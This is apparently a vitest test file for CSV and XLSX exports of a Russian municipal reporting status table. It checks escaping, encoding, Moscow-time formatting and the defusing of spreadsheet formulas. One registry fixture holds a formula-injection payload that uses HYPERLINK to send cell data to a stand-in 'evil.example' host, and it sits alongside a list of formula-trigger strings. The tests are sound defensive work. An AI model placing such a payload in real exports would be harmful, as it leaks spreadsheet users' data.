// Status exports: CSV that Excel opens with Cyrillic intact and never runs as formulas, and the
// same table as XLSX with typed cells.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import {
  moscowStamp,
  statusCsv,
  statusRows,
  statusXlsx,
  STATUS_HEADERS,
} from '../../infrastructure/export/status-table';
import { STATE_LABELS } from '../../domain/labels';
import { csvField, defuseFormula, toCsv } from '../../domain/csv';
import { requestedSummary } from '../../workflows/api';
import type { QuarterStatus } from '../../workflows/api';

function status(): QuarterStatus {
  return {
    quarter: '2023-Q2',
    phase: 'collecting',
    deadline: '2023-07-10',
    timeScale: 1,
    closed: false,
    municipalities: [
      {
        ...requestedSummary('vyazma', '2023-07-10'),
        state: 'accepted',
        versions: 2,
        reminders: 1,
        lastAnswerAt: '2023-07-05T11:03:00Z',
      },
      { ...requestedSummary('smolensk', '2023-07-10'), state: 'overdue', reminders: 3 },
      { ...requestedSummary('evil', '2023-07-20'), state: 'rejected', versions: 1 },
    ],
    counts: {},
    total: 3,
    groups: 0,
    draftReportId: null,
    finalReportId: null,
    finalSha256: null,
  };
}

const registry = [
  { code: 'smolensk', name: 'Город Смоленск' },
  { code: 'vyazma', name: 'Вяземский район; «центр»' },
  { code: 'evil', name: '=HYPERLINK("http://evil.example/?"&A1,"нажмите")' },
];

describe('CSV', () => {
  it('defuses every cell that a spreadsheet would run as a formula', () => {
    for (const attack of ['=1+1', '+7 495', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
      expect(defuseFormula(attack)).toBe(`'${attack}`);
    for (const plain of ['Смоленск', '1 + 1', 'a=b', "'уже"]) expect(defuseFormula(plain)).toBe(plain);
    expect(csvField(-3)).toBe('-3');
  });

  it('quotes separators, quotes and line breaks (RFC 4180), with a BOM and CRLF', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('он сказал "да"')).toBe('"он сказал ""да"""');
    expect(csvField('строка\nвторая')).toBe('"строка\nвторая"');
    expect(csvField('=A1;B1')).toBe(`"'=A1;B1"`);
    const csv = toCsv([
      ['Код', 'Имя'],
      ['x', null],
    ]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe('\ufeffКод;Имя\r\nx;\r\n');
  });

  it('writes the status table in region order with Russian states, Moscow times and dates', () => {
    const csv = statusCsv(statusRows(status(), registry, STATE_LABELS));
    const lines = csv.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe(STATUS_HEADERS.join(';'));
    expect(lines[1]).toBe('smolensk;Город Смоленск;просрочено;3;0;;10.07.2023;;');
    expect(lines[2]).toBe('vyazma;"Вяземский район; «центр»";принято;1;2;05.07.2023 14:03;10.07.2023;;');
    expect(lines[3]).toBe(
      `evil;"'=HYPERLINK(""http://evil.example/?""&A1,""нажмите"")";отклонено;0;1;;20.07.2023;;`,
    );
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('shows times in Moscow', () => {
    expect(moscowStamp('2023-12-31T22:30:00Z')).toBe('01.01.2024 01:30');
    expect(moscowStamp(null)).toBe('');
  });
});

describe('status XLSX', () => {
  it('has one typed row per municipality under a frozen header', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await statusXlsx('2023-Q2', statusRows(status(), registry, STATE_LABELS))) as unknown as ArrayBuffer,
    );
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Состояние сбора');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).values).toEqual([undefined, ...STATUS_HEADERS]);
    expect(sheet.getRow(2).getCell(2).value).toBe('Город Смоленск');
    expect(sheet.getRow(2).getCell(4).value).toBe(3);
    const answered = sheet.getRow(3).getCell(6).value as Date;
    expect(answered.toISOString()).toBe('2023-07-05T14:03:00.000Z');
    const evil = sheet.getRow(4).getCell(2);
    expect(evil.type).toBe(ExcelJS.ValueType.String);
    expect(evil.formula).toBeUndefined();
  });
});
